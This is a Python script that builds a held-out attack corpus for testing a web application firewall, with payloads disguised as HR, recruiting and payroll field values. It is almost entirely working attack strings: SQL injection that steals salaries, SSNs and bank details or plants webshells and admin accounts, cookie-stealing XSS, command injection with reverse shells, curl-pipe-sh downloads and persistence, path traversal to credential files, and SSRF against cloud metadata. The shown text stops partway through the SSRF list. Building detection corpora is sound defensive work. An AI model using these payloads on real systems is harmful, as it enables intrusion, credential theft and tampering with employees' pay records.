"""Attack held-out corpus for the WAF: payloads hidden in HR / recruiting fields.

Each value is a working payload against a vulnerable applicant tracking
system, HRIS or payroll tool that puts the value where its class says:
concatenated into SQL (candidate search, leave insert, tax-code update, sort
column...), a shell line (CV converter, badge-photo resize, payroll export,
webhook ping), a file path (attachment download, payslip, template, zip entry),
a fetched URL (CV import, avatar, webhook, calendar feed, PDF renderer), a
server-side template or formula evaluator (offer letters, bonus formulas),
HTML without escaping (cover letters, postings, scorecards, profiles), a log
line / response header / mail header, an LDAP filter or an XPath over HR-XML.

Class = "<context>-<technique>[+<encoding>]"; "plain-" classes carry no
domain camouflage. All literals were hand-written for this corpus; a few
encoded variants are computed from hand-written bases by small helpers.

Usage: python3 make_attacks.py  (writes attacks.jsonl next to this file)
"""

import base64
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 4302
ID_PREFIX = "ha43"

# ---------------------------------------------------------------------------
# Hand-written literals: (class, value) per category
# ---------------------------------------------------------------------------

SQLI = [
    ("candidate-name-search-tautology", "O'Neil' OR '1'='1"),
    ("boolean-search-like-union", "java%' UNION SELECT employee_id, ssn, base_salary, NULL FROM payroll.employees-- -"),
    ("boolean-search-fulltext-against-union", "+kotlin -intern') OR 1=1 UNION SELECT id, api_token FROM integrations-- -"),
    ("candidate-name-stacked-drop", "Müller'; DROP TABLE candidates;--"),
    ("leave-reason-insert-stacked-update", "Sick leave (flu)'); UPDATE employees SET base_salary=250000 WHERE email='j.oneil@corp.example';--"),
    ("taxcode-update-set-injection", "1257L', bank_account='99999999', sort_code='20-00-00"),
    ("scorecard-comment-concat-pg-sleep", "Tech: 4/5 -- strong on SQL joins' || (SELECT 'x' FROM pg_sleep(8)) || '"),
    ("org-path-like-pg-sleep", "Eng > Platform > SRE%' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("req-id-mssql-waitfor", "REQ-2024-0417'; WAITFOR DELAY '0:0:8';--"),
    ("job-title-oracle-dbms-pipe", "Payroll Specialist' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('hr',8)--"),
    ("skills-tag-mysql-benchmark", "C/C++' AND BENCHMARK(40000000,SHA1('payroll'))-- -"),
    ("skills-tag-sqlite-randomblob", "K8s' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("location-filter-extractvalue", "Dublin' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password FROM hr_users LIMIT 1)))-- -"),
    ("location-filter-updatexml", "Berlin' AND UPDATEXML(1,CONCAT(0x3a,(SELECT @@version),0x3a),1)#"),
    ("city-filter-pg-cast-error", "Lyon' AND 1=CAST((SELECT string_agg(email||':'||pwd_hash,',') FROM users) AS int)--"),
    ("job-title-mssql-convert-error", "Manager' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases WHERE name NOT IN ('master','tempdb')))--"),
    ("manager-name-boolean-blind-substring", "Ana O''Brien' AND ASCII(SUBSTRING((SELECT password FROM admins LIMIT 1),1,1))>77-- -"),
    ("employee-id-boolean-information-schema", "E-004471' AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_name='salaries')>0 AND 'a'='a"),
    ("sort-column-order-by-case", "hire_date,(CASE WHEN (SELECT SUBSTR(ssn,1,1) FROM employees WHERE id=1)='1' THEN base_salary ELSE last_name END)"),
    ("sort-column-mysql-sleep-subquery", "last_name DESC,(SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("salary-min-numeric-tautology", "55000 OR 1=1"),
    ("salary-max-numeric-union", "65000 UNION SELECT NULL,full_name,iban,NULL FROM bank_details"),
    ("employee-id-numeric-xp-cmdshell", "4471; EXEC xp_cmdshell 'whoami > C:\\inetpub\\wwwroot\\w.txt';--"),
    ("employee-id-pg-conditional-error", "4471 AND 1=(SELECT CASE WHEN (SELECT COUNT(*) FROM pg_user WHERE usesuper)>0 THEN 1 ELSE 1/0 END)"),
    ("department-mssql-xp-dirtree-oob", "Payroll'; EXEC master..xp_dirtree '\\\\sqli.attacker.example\\hr';--"),
    ("office-mysql-load-file-unc-oob", r"Leeds' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM mysql.user LIMIT 1),'.oob.attacker.example\\a'))-- -"),
    ("cover-letter-oracle-utl-http-oob", "Graduate Scheme 2025' || UTL_HTTP.REQUEST('http://203.0.113.9/'||(SELECT user FROM dual)) || '"),
    ("exit-comment-pg-copy-to-program", "Less process, more trust.'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/p.sh | sh';--"),
    ("notes-mysql-into-outfile-webshell", "Notes' UNION SELECT '<?php system($_GET[\"c\"]); ?>',NULL INTO OUTFILE '/var/www/html/uploads/cv.php'-- -"),
    ("skills-tag-union+versioned-comments", "Go' /*!50000UNION*/ /*!50000SELECT*/ user(),database()-- -"),
    ("skills-tag-union+comment-spaces", "Rust'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/staff#"),
    ("skills-tag-union+case-mix", "Terraform' uNiOn SeLeCt ssn, date_of_birth FrOm employees-- -"),
    ("city-filter-union+hex-literal", "Berlin' UNION SELECT 1,group_concat(column_name) FROM information_schema.columns WHERE table_name=0x7061796d656e7473-- -"),
    ("company-mssql-union-char-function", "Ben & Jerry''s' UNION SELECT name, NULL FROM sysobjects WHERE xtype=CHAR(85)--"),
    ("username-second-order-comment", "hr.admin'-- "),
    ("skills-array-pg-overlap-tautology", "python'] OR 1=1 OR tags && ARRAY['x"),
    ("city-filter-sqlite-master", "Paris' UNION SELECT name, sql FROM sqlite_master--"),
    ("leave-reason-insert-status-override", "Family wedding', 'APPROVED')-- -"),
    ("onboarding-note-pg-create-superuser", "Onboarding done'; CREATE ROLE hr_backdoor WITH LOGIN SUPERUSER PASSWORD 'Placeholder-not-a-secret';--"),
    ("plain-mssql-enable-xp-cmdshell", "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--"),
    ("team-name-pg-read-file", "Eng' UNION SELECT pg_read_file('/etc/passwd'),NULL--"),
    ("team-name-oracle-boolean-banner", "SRE' AND 1=(SELECT 1 FROM dual WHERE (SELECT SUBSTR(banner,1,1) FROM v$version WHERE rownum=1)='O')--"),
    ("plain-mssql-having-error", "' GROUP BY employees.id HAVING 1=1--"),
    ("employee-id-numeric-union-scientific-notation", "4471e0UNION SELECT login,pass_hash FROM hr_users"),
    ("plain-tautology", "' OR 'x'='x"),
    ("plain-comment-bypass", "admin'#"),
    ("plain-order-by-probe", "1' ORDER BY 9-- -"),
    ("plain-union-null-probe", "' AND 1=0 UNION SELECT NULL,NULL,NULL-- -"),
    ("plain-stacked-pg-sleep", "'; SELECT pg_sleep(10);--"),
    ("office-pg-union-dollar-quoting", "Lisbon' UNION SELECT $$admin$$, passwd FROM pg_shadow--"),
    ("office-mysql-union+newline-comment", "Kraków'#\nUNION SELECT iban, bic FROM bank_accounts#"),
    ("department-mssql-openrowset-oob", "HR'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.14;uid=sa;pwd=placeholder','SELECT 1')--"),
    ("grade-mysql-double-query-error", "ENG-3' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -"),
    ("skills-in-list-tautology", "go') OR ('1'='1"),
    ("taxcode-pg-stacked-insert-admin", "BR'; INSERT INTO hr_admins(email) VALUES ('mallory@attacker.example');--"),
    ("leave-date-between-tautology", "2024-01-01' AND '2099-12-31' OR '1'='1"),
    ("team-name-mysql-json-keys-error", "Platform' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,password)) USING utf8) FROM users LIMIT 1))-- -"),
    ("report-name-h2-create-alias-rce", "Q3 headcount'; CREATE ALIAS RUNCMD AS $$ String r(String c) throws Exception { return new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).useDelimiter(\"\\\\A\").next(); } $$; CALL RUNCMD('id');--"),
    ("job-title-oracle-xmltype-oob", "Analyst' UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://oob.attacker.example/o\"> %x;]>'),'/l'),NULL FROM dual--"),
    ("page-size-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("referral-email-insert-on-duplicate-key", "mallory@attacker.example', 'x') ON DUPLICATE KEY UPDATE role='hr_admin'-- -"),
    ("previous-employer-union-api-keys", "AT&T' UNION SELECT key_name, secret FROM api_keys-- -"),
    ("payroll-search-like-leak-hidden-rows", "%' AND base_salary > 200000 AND '%'='"),
    ("cost-centre-mssql-if-waitfor", "CC-4410'; IF (SELECT SYSTEM_USER)='sa' WAITFOR DELAY '0:0:6'--"),
    ("employee-id-numeric-sleep-subquery", "4471 AND (SELECT 6421 FROM (SELECT(SLEEP(5)))abc)"),
    ("plain-error-version", "' OR 1 IN (SELECT @@version)-- -"),
    ("review-comment-pg-stacked-update-rating", "Meets expectations'); UPDATE reviews SET rating=5, bonus_multiplier=1.5 WHERE employee_id=4471;--"),
    ("name-search-mssql-xp-fileexist-oob", "Nowak'; DECLARE @q varchar(200); SET @q='\\\\'+(SELECT TOP 1 password_hash FROM hr_users)+'.x.attacker.example\\s'; EXEC master.dbo.xp_fileexist @q;--"),
    ("candidate-filter-sqlite-attach-webshell", "x'; ATTACH DATABASE '/var/www/html/uploads/n.php' AS n; CREATE TABLE n.t (c text); INSERT INTO n.t VALUES ('<?php system($_GET[\"c\"]); ?>');--"),
    ("interview-date-pg-cast-error", "2024-06-14'::date AND 1=CAST(version() AS int)--"),
    ("pay-period-mysql-if-sleep", "2024-05' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)-- -"),
    ("cv-text-multiline-stacked-delete", "Jane Doe\nSummary: Backend engineer'; DELETE FROM audit_log WHERE actor='jdoe';--"),
    ("gender-field-union-information-schema", "X' UNION SELECT table_schema, table_name FROM information_schema.tables-- -"),
    ("department-mssql-union-linked-servers", "Sales' UNION SELECT name, data_source FROM sys.servers--"),
    ("bonus-percent-numeric-blind-subselect", "10+(SELECT COUNT(*) FROM hr_users WHERE role='admin' AND password_hash LIKE '$2b$12$a%')"),
]

XSS = [
    ("cover-letter-img-onerror-cookie", "Dear Hiring Manager,<img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\"> I'm applying for the Payroll Analyst role."),
    ("candidate-name-attr-breakout-svg", "Jane Doe\"><svg onload=alert(document.domain)>"),
    ("portfolio-url-javascript-scheme", "javascript:fetch('//attacker.example/t?'+localStorage.getItem('ats_token'))"),
    ("job-title-title-tag-breakout", "Senior Engineer</title><script src=https://attacker.example/ats.js></script>"),
    ("scorecard-details-ontoggle", "Tech: 4/5 -- strong on SQL joins <details open ontoggle=alert(document.cookie)>"),
    ("location-attr-autofocus-onfocus", "Dublin\" autofocus onfocus=\"new Image().src='//attacker.example/x?c='+document.cookie"),
    ("candidate-name-js-string-breakout", "O'Neil';alert(document.cookie);//"),
    ("profile-bio-script-block-breakout", "</script><script>document.location='https://attacker.example/?'+document.cookie</script>"),
    ("cover-letter-iframe-srcdoc-exfil", "<iframe srcdoc=\"<script>parent.fetch('/api/payroll/export').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/x',t))</script>\"></iframe>"),
    ("cv-markdown-javascript-link", "[Download my CV](javascript:alert(document.domain))"),
    ("handbook-markdown-image-attr-breakout", "![team photo](x\" onerror=\"alert(document.domain))"),
    ("cover-letter-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.domain)>\">"),
    ("photo-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(document.domain) /><text x=20 y=20>View references</text></a></svg>"),
    ("linkedin-link-tab-in-scheme+html-entities", "<a href=\"jav&#x09;ascript:alert(document.cookie)\">LinkedIn</a>"),
    ("exit-comment-html-injection-phishing-form", "Thanks for 4 great years!<form action=\"https://attacker.example/login\"><input name=pw type=password placeholder=\"Re-enter your HR portal password\"><button>Continue</button></form>"),
    ("posting-description-base-href-hijack", "Join our Platform team!<base href=\"https://attacker.example/\">"),
    ("posting-description-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/sso\">We're hiring SREs"),
    ("onboarding-note-input-autofocus", "Laptop ready <input onfocus=alert(document.domain) autofocus>"),
    ("cover-letter-video-source-atob+base64", "<video><source onerror=\"eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nK2RvY3VtZW50LmNvb2tpZSk='))\"></video>"),
    ("attachment-preview-img-script-loader", "<img src=x onerror=\"s=document.createElement('script');s.src='//attacker.example/h.js';document.head.appendChild(s)\">"),
    ("skills-tag-angularjs-csti", "{{constructor.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
    ("job-title-vue2-template-injection", "{{_c.constructor('alert(document.domain)')()}}"),
    ("profile-bio-style-import-exfil", "<style>@import 'https://attacker.example/leak.css';</style>"),
    ("cover-letter-img-onerror+decimal-entities", "<img src=x:x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;&#46;&#100;&#111;&#109;&#97;&#105;&#110;&#41;>"),
    ("plain-svg-onload-backtick", "<svg/onload=alert`1`>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror+case-mix", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-iframe-javascript-src", "<iframe src=javascript:alert(1)>"),
    ("feedback-script-identifier+unicode-escape", "<script>\\u0061lert(document.cookie)</script>"),
    ("offer-json-in-script-breakout", "Ana\"}</script><svg onload=alert(document.domain)>"),
    ("bio-marquee-onstart", "<marquee onstart=alert(document.domain)>We're hiring!</marquee>"),
    ("photo-svg-script-xlink-href", "<svg><script xlink:href=\"https://attacker.example/x.js\"></script></svg>"),
    ("scorecard-img-exfil-page-text", "<img src=x onerror=\"this.src='https://attacker.example/?'+btoa(encodeURIComponent(document.body.innerText.slice(0,800)))\">"),
    ("org-path-single-quote-attr-breakout", "Eng > Platform > SRE' onmouseover='alert(document.domain)"),
    ("profile-location-unquoted-attr-event", "Berlin onmouseover=alert(document.domain)"),
    ("cv-iframe-javascript-src", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("cover-letter-dynamic-import", "<img src=1 onerror=import('https://attacker.example/m.js')>"),
    ("review-svg-settimeout-concat", "<svg onload=setTimeout('al'+'ert(document.domain)')>"),
    ("exit-comment-bracket-property-call", "<img src=x onerror=window['al'+'ert'](document.cookie)>"),
    ("skills-regex-source-concat", "<img src=x onerror=top[/al/.source+/ert/.source](document.domain)>"),
    ("handbook-array-find-alert", "<img src=x onerror=[document.domain].find(alert)>"),
    ("portfolio-link-javascript+html-entities", "<a href=\"&#106;avascript:alert(document.domain)\">portfolio</a>"),
    ("portfolio-link-colon+named-entity", "<a href=\"javascript&colon;alert(document.domain)\">GitHub</a>"),
    ("cover-letter-location-cookie", "Kind regards, Máire<img src=x onerror=\"location='https://attacker.example/?'+encodeURIComponent(document.cookie)\">"),
    ("offer-letter-js-template-literal", "Dear ${fetch('//attacker.example/'+document.cookie)} team"),
    ("candidate-name-html-comment-breakout", "--><svg onload=alert(document.domain)><!--"),
    ("notes-textarea-breakout", "</textarea><script>fetch('//attacker.example/'+document.cookie)</script>"),
    ("custom-css-style-breakout", "</style><img src=x onerror=alert(document.domain)>"),
    ("photo-upload-svg-onload", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><circle cx=\"50\" cy=\"50\" r=\"40\"/></svg>"),
    ("voice-note-audio-onerror", "<audio src onerror=alert(document.domain)>"),
    ("scorecard-details-slash-separators", "<details/open/ontoggle=\"alert`xss`\">"),
    ("bio-unclosed-img-tag", "<img src=x onerror=alert(document.domain)//"),
    ("review-div-tabindex-autofocus", "<div tabindex=0 autofocus onfocus=alert(document.domain)>Self-review</div>"),
    ("portfolio-url-javascript+whitespace-in-scheme", "\tjava\nscript:alert(document.domain)"),
    ("photo-svg-xlink-href-link", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=\"10\" y=\"20\">Portfolio</text></a></svg>"),
    ("cv-markdown-reference-link", "Portfolio: [LinkedIn][1]\n\n[1]: javascript:alert(document.domain)"),
    ("cover-letter-location-hash-eval", "<img src=x onerror=eval(location.hash.slice(1))>"),
    ("review-svg-eval+charcode", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,100,111,99,117,109,101,110,116,46,100,111,109,97,105,110,41))>"),
    ("name-script-nested-strip-bypass", "<scr<script>ipt>alert(document.domain)</scr</script>ipt>"),
    ("leave-note-form-action-hijack", "<img src=x onerror=\"document.forms[0].action='https://attacker.example/steal'\">"),
    ("posting-body-second-body-onpageshow", "<body onpageshow=alert(document.domain)>"),
    ("candidate-email-attr-breakout-img", "jane.doe@mail.example\"><img src=x onerror=alert(document.domain)>"),
    ("cover-letter-link-onclick-exfil", "<a href=\"#\" onclick=\"fetch('/api/employees?fields=ssn,iban').then(r=>r.text()).then(d=>fetch('https://attacker.example/',{method:'POST',body:d}));return false\">My references</a>"),
    ("interview-notes-srcdoc+html-entities", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.domain)&gt;\"></iframe>"),
    ("review-svg-onload-newline-separators", "<svg\nonload\n=\nalert(document.domain)>"),
    ("skills-tag-select-autofocus", "<select autofocus onfocus=alert(document.cookie)></select>"),
]

CMDI = [
    ("cv-filename-semicolon-curl-sh", "Jane_Doe_CV.pdf; curl -s https://attacker.example/x.sh | sh"),
    ("cv-filename-and-exfil-passwd", "resume.docx && cat /etc/passwd > /var/www/html/uploads/p.txt"),
    ("cv-filename-pipe-nc-reverse", "cv.pdf | nc 203.0.113.20 4444 -e /bin/sh"),
    ("cv-filename-backticks", "cover_letter_`whoami`.pdf"),
    ("cv-filename-subshell-curl-bash", "CV_$(curl -fsSL attacker.example/r|bash).pdf"),
    ("photo-filename-newline-wget", "photo.jpg\nwget -qO- http://198.51.100.4/b | sh"),
    ("cv-filename-or-bash-devtcp", "Lebenslauf.pdf || bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'"),
    ("webhook-host-ping-sleep", "smtp.corp.example; sleep 15"),
    ("webhook-host-windows-ping-delay", "10.0.0.1 & ping -n 11 127.0.0.1 &"),
    ("payroll-export-name-ifs-whitespace", "payroll_2024-05.csv;${IFS}cat${IFS}/etc/shadow"),
    ("payroll-export-brace-expansion", "export.zip;{cat,/etc/passwd}"),
    ("badge-photo-glob-wildcards", "badge.png;/???/?at /e??/p?ss??"),
    ("cv-filename-quote-splitting", "a.pdf;c''at /et''c/pas''swd"),
    ("cv-filename-backslash-splitting", "a.pdf;c\\at /e\\tc/pa\\sswd"),
    ("cv-filename-env-substring-slash", "x.pdf;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("offer-pdf-name-pipe-sh+base64", "offer.pdf;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("report-name-powershell-iex", "report.xlsx & powershell -NoP -W Hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("report-name-certutil-download-exec", "report.xlsx | certutil -urlcache -split -f http://203.0.113.8/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("cv-filename-windows-type", "CV.pdf & type C:\\Windows\\win.ini"),
    ("cv-filename-nslookup-oob", "x.pdf;nslookup $(whoami).cmd.attacker.example"),
    ("cv-filename-curl-oob-hostname", "x.pdf;curl attacker.example/$(hostname)/$(id -u)"),
    ("export-tar-checkpoint-arg-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("webhook-url-curl-output-arg-injection", "https://attacker.example/s.txt -o /var/www/html/uploads/s.php"),
    ("sftp-host-ssh-proxycommand", "-oProxyCommand=sh -c 'id > /tmp/pwn' payroll-sftp"),
    ("handbook-repo-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("cv-search-find-exec", "*.pdf -exec sh -c 'curl attacker.example/f?$(id|base64)' \\;"),
    ("payslip-archive-zip-tt", "payslips.zip -T -TT 'bash -c \"curl attacker.example/z|sh\" #'"),
    ("badge-photo-imagemagick-pipe-filename", "|curl attacker.example/i.sh|sh"),
    ("candidate-email-sendmail-arg-injection", "x@attacker.example -OQueueDirectory=/tmp -X/var/www/html/uploads/x.php"),
    ("cv-path-perl-open-trailing-pipe", "uname -a; id |"),
    ("photo-filename-dquote-breakout", "photo.png\" ; id ; echo \""),
    ("photo-filename-squote-breakout", "photo.png' ; curl attacker.example/q | sh ; echo '"),
    ("cv-filename-printf+octal", "x.pdf;$(printf '\\151\\144')"),
    ("cv-filename-decoded-subshell+base64", "x.pdf;$(echo aWQ=|base64 -d)"),
    ("cv-filename-rev-herestring", "x.pdf;$(rev<<<'dwssap/cte/ tac')"),
    ("cv-filename-variable-concat", "x.pdf;a=ca;b=t;$a$b /etc/passwd"),
    ("report-name-env-exfil", "q3.csv&&env|curl -X POST --data-binary @- https://attacker.example/env"),
    ("export-name-crontab-persistence", "x;crontab -l | { cat; echo '* * * * * curl -s attacker.example/c|sh'; } | crontab -"),
    ("export-name-authorized-keys", "x;echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlaceholderKeyForTestingOnly0000000000 m@attacker.example' >> ~/.ssh/authorized_keys"),
    ("cv-filename-python-reverse-shell", "x.pdf;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.66\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("payslip-name-newline+urlenc", "payslip.pdf%0acat%20/etc/passwd"),
    ("report-name-cmd-redirect-webroot", "x.pdf | cmd /c \"whoami > C:\\inetpub\\wwwroot\\w.txt\""),
    ("report-name-whoami-caret-insertion", "x.pdf & w^h^o^a^m^i"),
    ("report-name-comspec", "x.pdf & %COMSPEC% /c dir C:\\Users"),
    ("report-name-powershell-enc+base64-utf16", "x.pdf & powershell -enc dwBoAG8AYQBtAGkA"),
    ("webhook-host-ping-arg-semicolon", "10.0.0.5 -c 1; id"),
    ("webhook-host-newline-udp-shell", "8.8.8.8\n/bin/bash -c 'sh -i >& /dev/udp/203.0.113.70/53 0>&1'"),
    ("cv-filename-ping-timing", "cv.pdf;ping -c 12 127.0.0.1"),
    ("plain-subshell-sleep", "$(sleep 9)"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-whoami", "| whoami"),
    ("plain-and-uname", "&& uname -a"),
    ("plain-backtick-hostname", "`cat /etc/hostname`"),
    ("plain-or-sleep", "|| sleep 10 ||"),
    ("plain-newline-id", "\nid"),
    ("cv-filename-destructive-rm", "cv.pdf; rm -rf /var/lib/hris/uploads/*"),
    ("export-name-openssl-reverse-shell", "x;openssl s_client -quiet -connect 203.0.113.80:443|/bin/sh|openssl s_client -quiet -connect 203.0.113.80:444"),
    ("cv-filename-awk-system", "x.pdf;awk 'BEGIN{system(\"id\")}'"),
    ("cv-filename-busybox-nc", "x.pdf;busybox nc 198.51.100.9 4444 -e sh"),
    ("cv-filename-mkfifo-shell", "x.pdf;rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.81 4444 >/tmp/f"),
    ("cv-filename-socat-pty", "x.pdf;socat exec:'sh -li',pty,stderr tcp:203.0.113.82:4444"),
    ("ldap-sync-ou-subshell-in-dquotes", "ou=HR,dc=corp$(id>/tmp/l)"),
    ("org-path-mkdir-subshell", "Finance > FP&A$(curl attacker.example/o|sh)"),
    ("cv-download-wget+ipv6-mapped", "x;wget http://[::ffff:cb00:7150]/p -O /tmp/p;chmod +x /tmp/p;/tmp/p"),
    ("cv-filename-curl+decimal-ip", "x.pdf;curl http://3405803858/p|sh"),
    ("cv-filename-multiline-newlines", "Resume 2024.pdf\n\ncurl -s https://attacker.example/s | bash\n"),
    ("export-name-ifs-comma-herestring", "x;IFS=,;$(cat<<<cat,/etc/passwd)"),
    ("timezone-env-shell", "Europe/Dublin; curl attacker.example/tz|sh"),
    ("cv-filename-exec-fd-shell", "x;exec 5<>/dev/tcp/203.0.113.83/80;cat <&5 | sh 2>&5 >&5"),
    ("ics-feed-name-windows-nslookup", "leave.ics | nslookup %USERNAME%.attacker.example"),
    ("bank-file-name-tab-separator", "bacs.txt;cat\t/etc/passwd"),
    ("cv-filename-whoami-dollar-at-insertion", "x.pdf;w$@ho$@am$@i"),
    ("cv-filename-glob-nc", "x.pdf;/b??/n? 203.0.113.84 4444 -e /b??/sh"),
]

TRAVERSAL = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("payslip-path-nested-dotdot", "payslips/2024-05/../../../../../etc/shadow"),
    ("attachment-path-proc-environ", "attachments/2024/../../../../proc/self/environ"),
    ("cv-download-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("template-name-iis-web-config", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("cv-download-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("cv-download-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("cv-download-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("payslip-path-strip-bypass-doubled", "....//....//....//etc/passwd"),
    ("handbook-page-dot-slash-strip-bypass", "..././..././..././etc/hosts"),
    ("cv-download-extension+null-byte", "../../../../etc/passwd%00.pdf"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("avatar-path-proc-cwd-config", "/proc/self/cwd/config/database.yml"),
    ("handbook-include-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("bulk-cv-zip-entry-slip", "../../../../var/www/html/uploads/shell.php"),
    ("bulk-cv-zip-entry-slip-windows", "..\\..\\..\\app\\static\\payroll.js"),
    ("admin-path-tomcat-semicolon", "..;/..;/admin/payroll/export"),
    ("attachment-url-dotdot+partial-urlenc", "/attachments/..%2f..%2f..%2fetc%2fpasswd"),
    ("template-name-windows-sam+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"),
    ("locale-code-dotdot", "en_GB/../../../../../../etc/passwd"),
    ("offer-template-ssh-key", "templates/offer_letter/../../../../root/.ssh/id_rsa"),
    ("avatar-path-aws-credentials", "avatars/../../../../home/hris/.aws/credentials"),
    ("log-viewer-absolute-access-log", "/var/log/nginx/access.log"),
    ("export-path-php-ini", "../../../../../../usr/local/etc/php/php.ini"),
    ("cv-download-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("payslip-path-dots+partial-urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/group"),
    ("payslip-path-half-encoded-dots", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("attachment-dotenv+double-urlenc", "..%252f..%252f..%252fapp%252f.env"),
    ("attachment-slash+iis-u-encoding", "..%u2215..%u2215etc%u2215passwd"),
    ("cv-download-dots+overlong-utf8", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    ("export-path-unc-ntlm-leak", "\\\\203.0.113.7\\share\\payroll.xlsx"),
    ("template-name-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("cv-download-double-slashes", "..//..//..//..//etc//passwd"),
    ("backup-path-pg-hba", "uploads/cv/2024/../../../../../../var/lib/postgresql/data/pg_hba.conf"),
    ("attachment-proc-pid1-environ", "../../../../proc/1/environ"),
    ("cv-download-deep-dotdot", "../../../../../../../../../../../../../../../../etc/passwd"),
    ("template-name-backslash+overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("appsettings-windows-programdata", "..\\..\\..\\..\\ProgramData\\HRIS\\appsettings.json"),
    ("docroot-prefix-dotdot-bash-history", "/srv/hris/uploads/../../../root/.bash_history"),
    ("static-asset-web-inf", "../../WEB-INF/web.xml"),
    ("handbook-page-git-config", "../../../.git/config"),
    ("attachment-proc-cmdline", "/proc/self/cmdline"),
    ("attachment-all+overlong-utf8", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    ("onboarding-checklist-secrets", "onboarding/checklists/../../../../etc/hris/secrets.yaml"),
    ("plain-windows-win-ini", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute-passwd", "/etc/passwd"),
    ("export-filename-k8s-serviceaccount-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("payslip-pdf-name-normalized-dotdot", "payslip_4471_2024-05.pdf/../../../../../etc/passwd"),
    ("bulk-cv-zip-entry-absolute", "/etc/cron.d/hris-backdoor"),
    ("pdf-font-path-windows-ssh-key", "..\\..\\..\\..\\Users\\Administrator\\.ssh\\id_rsa"),
]

SSRF = [
    ("cv-import-url-aws-imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("avatar-url-aws-user-data", "http://169.254.169.254/latest/user-data"),
    ("linkedin-import-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
    ("cv-import-url-azure-imds-token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("webhook-url-ecs-task-metadata", "http://169.254.170.2/v2/metadata"),
    ("avatar-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook-url-spring-actuator", "http://127.0.0.1:8080/actuator/env"),
